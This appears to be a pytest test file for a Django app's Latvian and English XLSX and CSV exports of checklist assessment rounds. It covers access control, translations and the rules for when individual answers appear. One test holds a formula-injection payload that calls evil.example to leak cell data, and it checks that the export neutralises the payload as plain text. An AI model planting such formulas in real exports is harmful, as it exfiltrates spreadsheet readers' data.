"""The round as a spreadsheet people read: XLSX and CSV in the reader's language."""

import csv
import io
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from assessments import services
from assessments.models import ActionStatus, Answer, IndividualAnswer, Membership, Role
from content.models import ChecklistItem, KeyArea
from reporting.exports import sheet_title
from tests.assessments.conftest import make_user
from tests.names import url_name

RIGA = ZoneInfo("Europe/Riga")
ITEM = "ka1.c1.i01"


def url(org, round_, name="export_xlsx", lang="lv"):
    with translation.override(lang):
        return reverse(url_name(name), args=[org.slug, round_.pk])


def answer(round_, key, value, user, comment=""):
    current = Answer.objects.filter(round=round_, item__key=key).first()
    services.answer_set(
        round=round_,
        item=ChecklistItem.objects.get(key=key),
        value=value,
        comment=comment,
        expected_version=current.version if current else 0,
        user=user,
    )


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def riga(moment):
    return timezone.localtime(moment, RIGA).replace(tzinfo=None, second=0, microsecond=0)


def minute(value):
    return value.replace(second=0, microsecond=0)


@pytest.fixture
def named(org):
    people = org.people
    people["coordinator"].first_name = "Anna Bērziņa"  # the display name (accounts.people)
    people["coordinator"].save()
    people["practitioner"].first_name = "Jānis Ozols"
    people["practitioner"].save()
    return org


def test_xlsx_has_an_overview_and_a_sheet_per_key_area_in_latvian(as_user, named):
    org = named
    area_one = list(ChecklistItem.objects.filter(checklist__key_area__number=1).order_by("key"))
    for item in area_one:
        answer(org.round, item.key, "yes", org.people["coordinator"])
    answer(org.round, ITEM, "partly", org.people["practitioner"], comment="Tikai daļēji")
    answer(org.round, "ka2.c1.i01", "no", org.people["practitioner"])
    services.note_set(
        round=org.round,
        key_area=KeyArea.objects.get(number=1),
        text="Jārunā ar domi",
        expected_version=0,
        user=org.people["coordinator"],
    )
    book = workbook(as_user(org.people["viewer"]).get(url(org, org.round)))

    areas = list(KeyArea.objects.order_by("number"))
    assert book.sheetnames[0] == "Pārskats"
    assert book.sheetnames[-1] == "Rīcības plāns"
    assert book.sheetnames[1] == "Lielākās nepilnības"
    assert book.sheetnames[2:-1] == [sheet_title(f"5.{a.number}. {a.title}") for a in areas]
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert "Individuālās atbildes" not in book.sheetnames  # a round of the together kind

    overview = rows(book["Pārskats"])
    assert overview[0][:2] == ["Organizācija", org.name]
    assert overview[1][:2] == ["Kārta", "2026 spring"]
    header = overview[7]
    assert header[:6] == [
        "Nr.",
        "Galvenā joma",
        "Atbildēti",
        "Attiecināmi",
        "Vērtējums (%)",
        "Secinājums",
    ]
    by_number = {row[0]: row for row in overview[8:]}
    with translation.override("lv"):
        # area 1 finished: 9 Yes and 1 Partly of 10 → 95 %, "improve the service"
        assert by_number["5.1."][2:6] == [10, 10, 95, translation.gettext("Improve the service")]
    assert by_number["5.2."][2:6] == [1, by_number["5.2."][3], None, None]  # unfinished

    # Every gap, the largest first: "No" before "Partly" (scoring.gap_rank).
    header, *gaps = rows(book["Lielākās nepilnības"])
    assert header[:4] == ["Vieta", "Nr.", "Galvenā joma", "Kontrolsaraksta punkts"]
    assert header[4:] == ["Atbilde", "Komentārs"]
    assert [row[:2] for row in gaps] == [[1, "5.2 · 1."], [2, "5.1 · 1."]]
    assert gaps[1][4:] == ["Daļēji", "Tikai daļēji"]

    sheet = book[book.sheetnames[2]]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    header, *body = rows(sheet)
    assert header == [
        "Nr.",
        "Kontrolsaraksts",
        "Kontrolsaraksta punkts",
        "Atbilde",
        "Komentārs",
        "Atbildēja",
        "Kad (Rīgas laiks)",
    ]
    first = body[0]
    saved = Answer.objects.get(round=org.round, item__key=ITEM)
    assert first[0] == "5.1 · 1."
    assert first[2] == ChecklistItem.objects.get(key=ITEM).text
    assert first[3:6] == ["Daļēji", "Tikai daļēji", "Jānis Ozols"]
    assert minute(first[6]) == riga(saved.updated_at)  # Riga wall-clock time, a real datetime
    assert sheet.cell(row=2, column=7).number_format == "yyyy-mm-dd hh:mm"
    assert body[1][3] == "Jā"
    notes = [row for row in body if row[0] == "Piezīmes par galveno jomu"]
    assert notes and notes[0][2] == "Jārunā ar domi"


def test_xlsx_speaks_english_to_an_english_reader(as_user, org):
    answer(org.round, ITEM, "na", org.people["practitioner"])
    book = workbook(as_user(org.people["viewer"]).get(url(org, org.round, lang="en")))
    assert book.sheetnames[0] == "Overview"
    header, first, *_ = rows(book[book.sheetnames[2]])
    assert header[:4] == ["No.", "Checklist", "Checklist item", "Answer"]
    assert first[3] == "Not applicable"
    assert first[5] == "Practitioner R."  # the display name, never the address


def test_xlsx_keeps_formulas_and_control_characters_as_plain_text(as_user, org):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    answer(org.round, ITEM, "no", org.people["practitioner"], comment=formula)
    answer(org.round, "ka1.c1.i02", "no", org.people["practitioner"], comment="#N/A")
    book = workbook(as_user(org.people["viewer"]).get(url(org, org.round)))
    sheet = book[book.sheetnames[2]]
    assert (sheet["E2"].value, sheet["E2"].data_type) == (formula, "s")
    assert (sheet["E3"].value, sheet["E3"].data_type) == ("#N/A", "s")


def test_xlsx_lists_the_action_plan(as_user, org):
    services.action_create(
        round=org.round,
        item=ChecklistItem.objects.get(key=ITEM),
        title="Piesaistīt tulku",
        owner=org.people["practitioner"],
        due_date=timezone.localdate() + timedelta(days=30),
        user=org.people["coordinator"],
    )
    book = workbook(as_user(org.people["viewer"]).get(url(org, org.round)))
    header, action = rows(book["Rīcības plāns"])
    assert header[2] == "Pasākums"
    assert action[0] == "5.1 · 1."
    assert action[2:4] == ["Piesaistīt tulku", "Practitioner R."]
    assert action[4].date() == timezone.localdate() + timedelta(days=30)
    with translation.override("lv"):
        assert action[5] == str(ActionStatus.OPEN.label)


# --- the individual answers -------------------------------------------------------------------


@pytest.fixture
def individual(named):
    org = named
    round_ = services.round_start(
        organisation=org, name="Each first", user=org.people["coordinator"], mode="individual"
    )
    item = ChecklistItem.objects.get(key=ITEM)
    for user, value, comment in [
        (org.people["coordinator"], "yes", "Secret-coordinator-view"),
        (org.people["practitioner"], "no", "Secret-practitioner-view"),
    ]:
        services.individual_answer_set(
            round=round_, item=item, value=value, comment=comment, expected_version=0, user=user
        )
    return round_


def _all_text(book) -> str:
    return "\n".join(
        str(value) for sheet in book for row in sheet.iter_rows(values_only=True) for value in row
    )


@pytest.mark.parametrize("role", ["viewer", "practitioner", "coordinator"])
def test_nobody_reads_individual_answers_in_the_xlsx_before_the_comparison(
    as_user, named, individual, role
):
    book = workbook(as_user(named.people[role]).get(url(named, individual)))
    assert "Individuālās atbildes" not in book.sheetnames
    assert "Secret-" not in _all_text(book)
    assert "Vienprātība (%)" not in rows(book["Pārskats"])[7]


@pytest.mark.parametrize("role", ["viewer", "practitioner", "coordinator"])
def test_once_the_comparison_is_open_every_member_gets_the_individual_answers(
    as_user, named, individual, role
):
    services.comparison_open(round=individual, user=named.people["coordinator"])
    services.answer_agree(
        round=individual,
        item=ChecklistItem.objects.get(key=ITEM),
        value="partly",
        reason="Kompromiss",
        expected_version=0,
        user=named.people["coordinator"],
    )
    book = workbook(as_user(named.people[role]).get(url(named, individual)))
    header, *body = rows(book["Individuālās atbildes"])
    assert header == [
        "Nr.",
        "Kontrolsaraksta punkts",
        "Dalībnieks",
        "Atbilde",
        "Komentārs",
        "Kad (Rīgas laiks)",
    ]
    assert [row[2:5] for row in body] == [
        ["Anna Bērziņa", "Jā", "Secret-coordinator-view"],
        ["Jānis Ozols", "Nē", "Secret-practitioner-view"],
    ]
    saved = IndividualAnswer.objects.get(round=individual, user=named.people["practitioner"])
    assert minute(body[1][5]) == riga(saved.updated_at)
    area_header, first, *_ = rows(book[book.sheetnames[2]])
    assert area_header[5] == "Vienošanās pamatojums"
    assert first[3:7] == ["Daļēji", None, "Kompromiss", "Anna Bērziņa"]
    assert rows(book["Pārskats"])[7][6] == "Vienprātība (%)"
    assert rows(book["Pārskats"])[8][6] == 0  # the one item compared: they disagreed


# --- who may export ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["export_xlsx", "export_csv"])
def test_a_stranger_gets_404_and_an_anonymous_reader_the_login_page(
    client, as_user, org, other_org, name
):
    anonymous = client.get(url(org, org.round, name))
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]
    assert (
        as_user(other_org.people["coordinator"]).get(url(org, org.round, name)).status_code == 404
    )


@pytest.mark.parametrize("name", ["export_xlsx", "export_csv"])
def test_a_former_member_reads_nothing(as_user, org, name):
    viewer = org.people["viewer"]
    Membership.objects.filter(user=viewer).delete()
    assert as_user(viewer).get(url(org, org.round, name)).status_code == 404


def test_the_summary_page_offers_the_spreadsheet(as_user, org):
    page = as_user(org.people["viewer"]).get(url(org, org.round, "summary"))
    assert url(org, org.round) in page.text


# --- the CSV ------------------------------------------------------------------------------------


def csv_rows(response, delimiter):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_latvian_csv_uses_semicolons_words_and_riga_time(as_user, named):
    answer(named.round, ITEM, "partly", named.people["practitioner"], comment="Jā; bet ne visur")
    response = as_user(named.people["viewer"]).get(url(named, named.round, "export_csv"))
    assert response["Content-Disposition"] == 'attachment; filename="riga-2026-spring.csv"'
    header, first, *rest = csv_rows(response, ";")
    assert header[:8] == [
        "Ieraksts",
        "Galvenā joma",
        "Nr.",
        "Kontrolsaraksts",
        "Kontrolsaraksta punkts",
        "Atbilde",
        "Komentārs",
        "Atbildēja",
    ]
    record = dict(zip(header, first, strict=True))
    saved = Answer.objects.get(round=named.round, item__key=ITEM)
    assert record["Ieraksts"] == "Atbilde"
    assert record["Nr."] == "5.1 · 1."
    assert record["Kontrolsaraksta punkts"] == ChecklistItem.objects.get(key=ITEM).text
    assert (record["Atbilde"], record["Komentārs"]) == ("Daļēji", "Jā; bet ne visur")
    assert record["Atbildēja"] == "Jānis Ozols"
    assert record["Kad (Rīgas laiks)"] == riga(saved.updated_at).strftime("%Y-%m-%d %H:%M")
    assert len([r for r in rest if r[0] == "Atbilde"]) == 80 - 1


def test_english_csv_uses_commas(as_user, org):
    answer(org.round, ITEM, "yes", org.people["practitioner"], comment="Yes, all of it")
    response = as_user(org.people["viewer"]).get(url(org, org.round, "export_csv", lang="en"))
    header, first, *_ = csv_rows(response, ",")
    record = dict(zip(header, first, strict=True))
    assert (record["Record"], record["No."], record["Answer"]) == ("Answer", "5.1 · 1.", "Yes")
    assert record["Comment"] == "Yes, all of it"


# --- a constant number of queries ----------------------------------------------------------------


def _individual_round_with(org, members: int):
    coordinator = org.people["coordinator"]
    round_ = services.round_start(
        organisation=org, name=f"Each first {members}", user=coordinator, mode="individual"
    )
    items = list(ChecklistItem.objects.order_by("key")[:members])
    for n in range(members):
        user = make_user(f"member{members}-{n}@riga.example")
        Membership.objects.create(user=user, organisation=org, role=Role.PRACTITIONER)
        for item in items:
            services.individual_answer_set(
                round=round_, item=item, value="yes", comment="", expected_version=0, user=user
            )
    services.comparison_open(round=round_, user=coordinator)
    for item in items:
        services.answer_agree(
            round=round_, item=item, value="yes", reason="", expected_version=0, user=coordinator
        )
    return round_


@pytest.mark.parametrize("members", [1, 4])
def test_xlsx_costs_the_same_queries_whatever_the_number_of_members(
    as_user, org, members, django_assert_num_queries
):
    from django.core.cache import cache

    from tests.conftest import lazy_loads_raise

    round_ = _individual_round_with(org, members)
    client = as_user(org.people["viewer"])
    address = url(org, round_)
    client.get(address)  # what a process reads once (key areas, items)
    cache.clear()
    with lazy_loads_raise(), django_assert_num_queries(XLSX_QUERIES):
        assert client.get(address).status_code == 200


# Whatever the number of members: the individual answers are one query, the evidence another.
XLSX_QUERIES = 13


def test_a_carried_over_answer_is_shown_as_waiting_for_confirmation(as_user, named):
    answer(named.round, ITEM, "yes", named.people["practitioner"])
    services.round_close(round=named.round, user=named.people["coordinator"])
    later = services.round_start(
        organisation=named,
        name="2026 autumn",
        user=named.people["coordinator"],
        copy_from=named.round,
    )
    response = as_user(named.people["viewer"]).get(url(named, later, "export_csv"))
    header, first, *_rest = csv_rows(response, ";")
    record = dict(zip(header, first, strict=True))
    assert record["Nr."] == "5.1 · 1."
    assert record["Atbilde"] == "Jā (pārnests — apstipriniet)"
    sheet = workbook(as_user(named.people["viewer"]).get(url(named, later))).worksheets[2]
    assert "Jā (pārnests — apstipriniet)" in [row[3] for row in rows(sheet)]
